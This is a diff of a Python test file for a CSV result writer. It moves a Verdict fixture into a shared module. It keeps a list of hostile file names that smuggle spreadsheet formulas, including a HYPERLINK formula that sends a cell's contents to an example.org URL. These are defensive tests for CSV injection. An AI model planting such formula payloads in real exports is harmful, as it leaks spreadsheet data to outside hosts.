@@ -7,11 +7,11 @@ import io
 
 import msgspec
 import pytest
-from glass_edge.runtime.images.files import ImageFile
+import test_records as records
 from glass_edge.runtime.results.records import ErrorInfo
 from glass_edge.runtime.results.writers import CsvWriter
 
-from glass_edge import Crop, Failure, Verdict
+from glass_edge import Failure, Verdict
 
 HOSTILE = [
     "=HYPERLINK(\"http://example.org/?\"&A2,\"open\").jpg",
@@ -24,21 +24,7 @@ HOSTILE = [
     "'=1+1.jpg",
 ]  # fmt: skip
 FORMULAS = tuple("=+-@\t\r\n")
-VERDICT = Verdict(
-    path="images/a.jpg",
-    verdict="fake",
-    score=0.75,
-    probabilities={"fake": 0.75, "real": 0.25},
-    logits={"fake": -1.0, "real": -2.5},
-    crops=(Crop(1, 2, 224, 224, 1.0),),
-    width=1000,
-    height=800,
-    seed=42,
-    bundle="demo.glass@0123456789ab",
-    engine="onnxruntime 1.24.0 cpu",
-    precision="fp32",
-    file=ImageFile(1234, "2026-01-02T03:04:05.000006+00:00"),
-)
+VERDICT = msgspec.structs.replace(records.VERDICT, logits={"fake": -1.0, "real": -2.5})
 
 
 def written(record: Verdict | Failure) -> str:
